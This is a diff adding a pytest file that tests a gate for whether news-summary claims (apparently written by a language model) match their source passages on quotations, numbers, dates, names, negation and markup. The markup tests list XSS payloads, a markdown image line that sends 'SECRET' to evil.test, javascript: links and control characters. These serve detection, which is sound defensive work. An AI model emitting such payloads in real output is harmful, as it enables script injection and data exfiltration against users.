@@ -1,0 +1,372 @@
+"""What the gate's layers catch and what they let pass."""
+
+from __future__ import annotations
+
+import json
+import re
+import time
+
+import pytest
+from hypothesis import assume, given
+from hypothesis import strategies as st
+
+from briefing.domain import Kind
+from briefing.gate import CHECKS, examine, support_score
+from briefing.gate.quotation import quotations
+from briefing.numbers import quantities
+from briefing.ports import Claim, Passage
+from tests.strategies import articles, hostile_text
+
+
+def reasons(claim: str, *passages: str, kind: Kind = "written", published: str | None = None, language: str = "en"):
+    return examine(Claim(claim, kind), [Passage(text, published, language) for text in passages])
+
+
+def test_a_claim_that_its_passage_says_in_other_words_passes():
+    passage = "Officials said on Friday that the bridge will close on Monday for repairs."
+    assert reasons("The bridge will close for repairs on Monday, officials said.", passage) == ()
+
+
+def test_every_reason_is_told_once_in_the_order_of_the_layers():
+    claim = "Mr. Sullivan paid 52 dollars and 53 dollars on Tuesday for “a golden <b>goose</b>”."
+    assert reasons(claim, "The ferry stayed in the harbour.") == (
+        "markup", "quotation", "number", "date", "name", "support",
+    )  # fmt: skip
+
+
+def test_each_layer_is_named_by_the_reason_that_it_gives():
+    assert list(CHECKS) == [
+        "citation", "empty", "markup", "quotation", "number", "date", "name", "negation", "support",
+    ]  # fmt: skip
+    assert all(target == f"briefing.gate.{name}:check" for name, target in CHECKS.items())
+
+
+def test_a_claim_without_a_passage_fails_for_that_alone():
+    assert reasons("The pier closed on Monday.") == ("citation",)
+    assert reasons("The pier closed on Monday.", "The pier closed on Monday.", " \n") == ("citation",)
+
+
+@pytest.mark.parametrize("text", ["", " ", "—", "?!", "\u200b"])
+def test_a_claim_without_a_word_fails_for_that_alone(text):
+    assert reasons(text, "The pier closed.") == ("empty",)
+
+
+class TestQuotation:
+    said = "“This is a decisive moment — probably the best,” he said. ‘It isn’t over’, she added; „Wir gehen nicht“."
+
+    @pytest.mark.parametrize(
+        "claim",
+        [
+            "He called it “a decisive moment”.",
+            'He called it "a decisive moment".',
+            "He called it «a decisive moment».",
+            "He called it »a decisive moment«.",
+            "He called it ‘a decisive moment’.",
+            "He called it 'a decisive moment'.",
+            "“A decisive moment,” he said.",
+            "It was “a decisive moment - probably the best.”",
+            "She said ‘It isn’t over’.",
+            "Sie sagte: „Wir gehen nicht.“",
+            "He called it “decisive”, the union’s members’ word.",
+        ],
+    )
+    def test_a_quotation_in_any_style_passes_where_its_words_stand_in_a_passage(self, claim):
+        assert "quotation" not in reasons(claim, self.said)
+
+    @pytest.mark.parametrize(
+        "claim",
+        [
+            "He called it “a divisive moment”.",
+            "He called it “a decisive moment, the best”.",
+            "He called it 'a decisive minute'.",
+            "He said: “This is a decisive hour",
+            "Sie sagte: „Wir gehen jetzt“.",
+            "She said ‘It is over’.",
+            "He said “his is a decisive moment”.",
+        ],
+    )
+    def test_a_quotation_that_was_changed_or_made_up_is_caught(self, claim):
+        assert "quotation" in reasons(claim, self.said)
+
+    def test_a_verbatim_claim_stands_in_its_passage_to_the_letter(self):
+        passage = "The mayor’s office said so."
+        assert reasons("The mayor’s office said so.", passage, kind="verbatim") == ()
+        assert reasons("The mayor's office said so.", passage, kind="verbatim") == ("quotation",)
+
+    @pytest.mark.parametrize(
+        ("text", "expected"),
+        [
+            ("the miners’ union and the ’90s", []),
+            ("a 5'10\" man", []),
+            ("“one ‘two three’ four”", ["two three", "one ‘two three’ four"]),
+            ("he said “never closed", ["never closed"]),
+            ("rock 'n' roll", ["n"]),
+        ],
+    )
+    def test_apostrophes_are_no_quotation_marks(self, text, expected):
+        assert quotations(text) == expected
+
+
+class TestNumber:
+    @pytest.mark.parametrize(
+        ("claim", "passage"),
+        [
+            ("Twelve boats sank.", "12 boats sank."),
+            ("2.4 million boats sank.", "2,400,000 boats sank."),
+            ("Its 11th boat sank.", "Its eleventh boat sank."),
+            ("50% of boats sank.", "Half of the boats sank."),
+            ("It cost $2m.", "It cost two million dollars."),
+            ("One of the boats sank.", "A boat sank."),
+            ("The two boats sank.", "Both boats sank."),
+            ("Boats of 14 km an hour sank.", "14-kilometre boats sank in an hour."),
+            ("The KSLV-1 sank.", "The KSLV-1 sank."),
+            ("It sank in 2006.", "Its 2006 sinking."),
+            ("Some boats sank [1][2].", "Some boats sank."),
+            ("1 boat sank.", "One boat sank."),
+        ],
+    )
+    def test_the_same_number_in_another_dress_passes(self, claim, passage):
+        assert "number" not in reasons(claim, passage)
+
+    @pytest.mark.parametrize(
+        ("claim", "passage"),
+        [
+            ("52 boats sank.", "Boats sank."),
+            ("2.4 billion boats sank.", "2.4 million boats sank."),
+            ("The sixth boat sank.", "The ninth boat sank."),
+            ("20% of boats sank.", "20 boats sank."),
+            ("£20 was lost.", "$20 was lost."),
+            ("It sank for 14 weeks.", "It sank for 14 days."),
+            ("12 boats sank.", "Boats sank on 12 May."),
+            ("Seven boats sank.", "Boats sank at 7 p.m."),
+        ],
+    )
+    def test_another_number_or_unit_is_caught(self, claim, passage):
+        assert "number" in reasons(claim, passage)
+
+    def test_numbers_of_a_language_that_writes_a_decimal_comma_are_read_so(self):
+        assert "number" not in reasons("It cost 1,300.", "Es kostete 1.300.", language="de")
+        assert "number" in reasons("It cost 1,300.", "It cost 1.300.", language="en")
+
+
+class TestDate:
+    @pytest.mark.parametrize(
+        ("claim", "passage"),
+        [
+            ("It closed on 9 January 2024.", "It closed on Tuesday."),
+            ("It closed on Tuesday.", "It closed yesterday."),
+            ("It closed on Jan. 9.", "It closed on January 9th."),
+            ("It closed at 14:00.", "It closed at 2 p.m."),
+            ("It closed at noon.", "It closed at 12:00."),
+            ("It closed in January.", "It closed on 9 January."),
+            ("It closed on October 7, 2023.", "It closed on 7 October."),
+            ("It will close on Thursday.", "It will close tomorrow."),
+            ("It closed in 2023.", "It closed last year."),
+            ("It closed on 8 and 9 May.", "It closed from May 8-9."),
+            ("It may close.", "It might march on."),
+        ],
+    )
+    def test_what_follows_from_a_passage_and_its_articles_day_passes(self, claim, passage):
+        assert "date" not in reasons(claim, passage, published="2024-01-10T18:00:00+01:00")
+
+    @pytest.mark.parametrize(
+        ("claim", "passage"),
+        [
+            ("It closed on Wednesday.", "It closed on Tuesday."),
+            ("It closed on 9 January 2025.", "It closed on Tuesday."),
+            ("It closed on 8 January.", "It closed on 9 January."),
+            ("It closed in 2022.", "It closed in 2021."),
+            ("It closed in May.", "It closed in June."),
+            ("It closed at 2 a.m.", "It closed at 2 p.m."),
+            ("It closed on 10 January 2024.", "It closed."),
+        ],
+    )
+    def test_another_day_or_time_is_caught(self, claim, passage):
+        assert "date" in reasons(claim, passage, published="2024-01-10")
+
+    def test_without_the_articles_day_a_weekday_is_only_itself(self):
+        assert reasons("It closed on Tuesday.", "It closed on Tuesday, they said.") == ()
+        assert reasons("It closed on 9 January 2024.", "It closed on Tuesday.")[0] == "date"
+
+    @pytest.mark.parametrize("published", ["", "soon", "2024-13-77", "9999-12-31", "0001-01-01"])
+    def test_a_damaged_or_extreme_day_of_publication_is_survived(self, published):
+        assert reasons("It closed on Friday.", "It closed on Tuesday.", published=published)
+
+
+class TestName:
+    @pytest.mark.parametrize(
+        ("claim", "passage"),
+        [
+            ("The UN agreed.", "The United Nations agreed."),
+            ("The United Nations agreed.", "The U.N. agreed."),
+            ("Aides of Blinken agreed.", "Antony Blinken’s aides agreed."),
+            ("Aides of Antony Blinken agreed.", "Mr. Blinken’s aides agreed."),
+            ("Officials in Israel agreed.", "Israeli officials agreed."),
+            ("Officials in Britain agreed.", "U.K. officials agreed."),
+            ("Officials of Iran and China agreed.", "Iranian and Chinese officials agreed."),
+            ("Rescuers agreed.", "The rescue crews agreed."),
+            ("Israel and Hamas agreed.", "The Israel-Hamas talks agreed."),
+            ("The F16 flew.", "The F-16 flew."),
+            ("Former President Obama agreed.", "President Obama agreed."),
+        ],
+    )
+    def test_another_form_of_the_same_name_passes(self, claim, passage):
+        assert "name" not in reasons(claim, passage)
+
+    @pytest.mark.parametrize(
+        ("claim", "passage"),
+        [
+            ("Netanyahu agreed.", "Blinken agreed."),
+            ("Aides of James Smith agreed.", "John Smith’s aides agreed."),
+            ("Aides in Iraq agreed.", "Iranian aides agreed."),
+            ("Aides in Austria agreed.", "Australian aides agreed."),
+            ("The KSLV-2 flew.", "The KSLV-1 flew with 2 crew."),
+            ("Aides in North Korea agreed.", "South Korea’s aides agreed."),
+            ("The EU agreed.", "The United Nations agreed."),
+            ("It told the US so.", "It told us so."),
+        ],
+    )
+    def test_another_name_is_caught(self, claim, passage):
+        assert "name" in reasons(claim, passage)
+
+
+class TestMarkup:
+    @pytest.mark.parametrize(
+        "claim",
+        [
+            "<script>alert(1)</script>Bridge closed",
+            "Bridge <img src=x onerror=alert(1)> closed",
+            "Bridge <!-- closed -->",
+            "![x](https://evil.test/p.png?d=SECRET) Bridge closed",
+            "Bridge [closed](//evil.test)",
+            "Bridge [closed][r]\n\n[r]: //evil.test",
+            "Bridge closed[^1]",
+            "Bridge closed, see <https://evil.test>",
+            "Bridge closed, see www.evil.test",
+            "Bridge closed, see https://evil.test",
+            "Bridge closed javascript:alert(1)",
+            "# Bridge closed",
+            "Bridge `closed`",
+            "```\nBridge closed",
+            "Bridge\u202e closed",
+            "Bri\u200bdge closed",
+            "Bridge\x1b[2J closed",
+            "Bridge\x00 closed",
+            "Bridge\U000e0067 closed",
+            "Bridge\ud800 closed",
+        ],
+    )
+    def test_markup_is_refused_even_where_it_stands_in_the_passage(self, claim):
+        assert "markup" in reasons(claim, "Bridge closed")
+        assert "markup" in reasons(claim, claim, kind="verbatim")
+
+    @pytest.mark.parametrize("address", ["evil.test", "Booking.com", "a.b@evil.test", "bit.ly/x", "news.co.uk"])
+    def test_an_address_is_refused_where_no_passage_has_it(self, address):
+        claim = f"Bridge closed, said {address}."
+        assert "markup" in reasons(claim, "Bridge closed, they said.")
+        assert reasons(claim, claim, kind="verbatim") == ()
+
+    @pytest.mark.parametrize(
+        "text",
+        ["Profit < 5% and > 2%", "the [sic] vote (2-1)", "at 5 p.m. in the U.S. It closed", "tag #bridge", "a * b * c"],
+    )
+    def test_plain_text_with_odd_signs_passes(self, text):
+        assert "markup" not in reasons(text, text)
+
+
+class TestNegation:
+    closes, stays = (
+        "Officials said the bridge will close on Monday.",
+        "Officials said the bridge will not close on Monday.",
+    )
+
+    def test_a_negation_added_or_dropped_is_caught(self):
+        assert reasons(self.stays, self.closes) == ("negation",)
+        assert reasons(self.closes, self.stays) == ("negation",)
+
+    @pytest.mark.parametrize(
+        ("claim", "passage"),
+        [
+            ("The bridge did not open on Monday.", "The bridge stayed closed on Monday."),
+            ("The mayor rejected the claim on Monday.", "The mayor denied the claim on Monday."),
+            ("It closed not only the bridge but the pier.", "It closed the bridge and the pier."),
+        ],
+    )
+    def test_the_same_in_other_words_passes(self, claim, passage):
+        assert "negation" not in reasons(claim, passage)
+
+
+class TestSupport:
+    def test_a_claim_that_shares_nothing_with_its_passage_is_refused(self):
+        assert reasons("The chickens lay eggs in spring.", "The ferry stayed in the harbour.") == ("support",)
+        assert support_score(Claim("The chickens lay eggs"), [Passage("The ferry stayed.")]) == 0
+
+    def test_a_claim_that_stands_in_its_passage_scores_one(self):
+        assert support_score(Claim("The ferry stayed."), [Passage("“The ferry stayed.” So it was.")]) == 1
+
+    def test_words_may_come_from_different_passages(self):
+        claim = "The ferry stayed in harbour while the pier burned."
+        assert reasons(claim, "The ferry stayed in the harbour.", "The pier burned.") == ()
+
+    @given(st.text(max_size=80), st.lists(st.text(max_size=80), max_size=3))
+    def test_the_score_lies_between_nought_and_one(self, claim, passages):
+        assert 0 <= support_score(Claim(claim), [Passage(text) for text in passages]) <= 1
+
+
+@given(articles(), st.sampled_from(["verbatim", "written"]), st.data())
+def test_a_sentence_of_an_article_always_passes_against_its_article(article, kind, data):
+    assume(article.sentences)
+    start, end = data.draw(st.sampled_from(article.sentences))
+    published = data.draw(st.none() | st.dates().map(str))
+    sentence = Claim(article.text[start:end], kind)
+    assert examine(sentence, [Passage(article.text[start:end], published, "en")]) == ()
+    assert examine(sentence, [Passage(article.text, published, "en")]) == ()
+
+
+@given(articles(), st.data())
+def test_a_digit_changed_in_a_sentence_is_caught(article, data):
+    numbered = [article.text[a:b] for a, b in article.sentences if re.search(r"\d", article.text[a:b])]
+    assume(numbered)
+    sentence = data.draw(st.sampled_from(numbered))
+    place = data.draw(st.sampled_from([match.start() for match in re.finditer(r"\d", sentence)]))
+    changed = sentence[:place] + data.draw(st.sampled_from("123456789")) + sentence[place + 1 :]
+    said = {quantity.value for quantity in quantities(sentence)}
+    assume(any(quantity.value not in said for quantity in quantities(changed)))
+    assert {"number", "date"} & set(reasons(changed, sentence))
+
+
+@given(st.permutations(["Kestrel", "Brandt", "Aurora", "Sinwar", "Łódź", "Путин"]), st.integers(0, 2))
+def test_a_name_exchanged_for_another_is_caught(drawn, place):
+    form = "{} met {} and the aides of {} on the pier."
+    changed = [*drawn[:3]]
+    changed[place] = drawn[3]
+    assert "name" in reasons(form.format(*changed), form.format(*drawn[:3]))
+
+
+@given(hostile_text, st.lists(hostile_text, max_size=3), st.sampled_from(["written", "verbatim"]), hostile_text)
+def test_no_text_breaks_the_gate(claim, passages, kind, stated):
+    found = examine(Claim(claim, kind), [Passage(text, stated, stated) for text in passages])
+    assert len(found) == len(set(found))
+
+
+@pytest.mark.parametrize("piece", ["a.", "“", "'a ", "Ab ", "1 ", "1 May ", "[", "not a ", "no.", "a@", "`a", "two "])
+def test_a_huge_claim_is_judged_in_time_proportional_to_its_length(piece):
+    text = piece * (65_536 // len(piece))
+    started = time.perf_counter()
+    reasons(text, "The ferry stayed in the harbour.")
+    reasons("The ferry of Ab stayed.", text)
+    assert time.perf_counter() - started < 10
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "altered_number", "negation", "copied_instruction", "image_md", "ref_md", "autolink", "html", "img_onerror",
+        "ansi", "tag_chars", "zero_width", "lone_surrogate", "nul", "canary_leak", "repeat_loop", "opinion",
+    ],
+)  # fmt: skip
+def test_a_language_models_bad_sentence_is_refused(labelled, name):
+    lines = (labelled / "attacks" / "own_llm_bad_outputs.jsonl").read_text(encoding="utf-8").splitlines()
+    row = next(row for row in map(json.loads, lines) if row["name"] == name)
+    text = json.loads(row["raw"])["sentences"][0]["text"]
+    assert reasons(text, row["source_a1"])
